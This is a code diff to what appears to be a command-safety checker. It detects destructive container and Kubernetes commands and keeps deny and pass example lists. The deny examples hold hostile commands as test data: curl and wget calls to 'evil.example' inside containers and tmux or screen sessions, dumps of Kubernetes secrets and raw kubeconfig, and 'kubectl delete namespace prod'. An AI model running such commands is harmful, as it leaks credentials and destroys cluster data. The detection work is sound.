@@ -170,6 +170,13 @@ function containerTool(names: readonly string[]): ProgramEntry {
     summary: 'container engines: `run`, `create`, `exec` (also under `container` and `compose`) run a command inside a container',
     analyze(call) {
       const args = call.args;
+      const words = args.map((a) => value(a) ?? '');
+      const vol = words.indexOf('volume');
+      const pruneAll = words.includes('system') && words.includes('prune') && words.includes('--volumes');
+      if ((vol >= 0 && /^(rm|remove|prune)$/.test(words[vol + 1] ?? '')) || pruneAll) {
+        // (`compose down -v` resets a project's own dev volumes, an everyday line: it passes.)
+        return { destroys: [{ word: args[Math.max(0, vol >= 0 ? vol : words.indexOf('prune'))]!, what: 'data', why: `${call.name} deletes volumes, and the data they hold` }] };
+      }
       const subs = { run: {}, exec: {}, create: {}, container: {}, compose: {} };
       let at = findSub(args, subs);
       if (at < 0) return {};
@@ -692,13 +699,18 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       if (get >= 0 && /^secrets?(\/|$)/.test(words[get + 1] ?? '') && words.some((w, i) => (/^(-o|--output)$/.test(w) && /^(ya?ml|json|jsonpath|go-template|custom-columns)/.test(words[i + 1] ?? '')) || /^(-o|--output=)(ya?ml|json|jsonpath|go-template|custom-columns)/.test(w))) {
         return { uses: [{ word: storeWord(call.args[get]!, '~/.kube/config'), role: 'read' }] };
       }
+      // `delete namespace|pv|pvc|all`, or `--all` of a kind: a cluster's data and workloads go.
+      const del = words.indexOf('delete');
+      if (del >= 0 && (/^(namespaces?|ns|pv|pvc|persistentvolumes?|persistentvolumeclaims?|all)(\/|$)/.test(words[del + 1] ?? '') || words.some((w) => w === '--all' || w === '--all-namespaces' || w === '-A'))) {
+        return { destroys: [{ word: call.args[del]!, what: 'data', why: `${call.name} delete ${words[del + 1] ?? ''} deletes what a cluster holds (namespaces, volumes or every object of a kind)` }] };
+      }
       const at = findSub(call.args, { exec: {}, run: {}, debug: {}, kubectl: {} });
       if (at < 0) return {};
       if (value(call.args[at]) === 'kubectl') return { runs: [{ kind: 'argv', argv: call.args.slice(at), via: call.name }] };
       const dashes = call.args.findIndex((a, i) => i > at && value(a) === '--');
       return { runs: dashes >= 0 && dashes + 1 < call.args.length ? [{ kind: 'argv', argv: call.args.slice(dashes + 1), via: `${call.name} ${value(call.args[at])}` }] : [] };
     },
-    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example', 'kubectl get secret db -o yaml', 'kubectl get secrets/db -o jsonpath={.data.password}', 'kubectl config view --raw'], pass: ['kubectl get pods', 'kubectl exec web -- ls', 'kubectl config view'] },
+    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example', 'kubectl get secret db -o yaml', 'kubectl get secrets/db -o jsonpath={.data.password}', 'kubectl config view --raw', 'kubectl delete namespace prod'], pass: ['kubectl get pods', 'kubectl exec web -- ls', 'kubectl config view', 'kubectl delete pod web-1'] },
   },
   { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ["tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'"], pass: ['tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'"] } },
   { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session', analyze: screen, examples: { deny: ['screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ['screen -ls', 'screen -r x'] } },
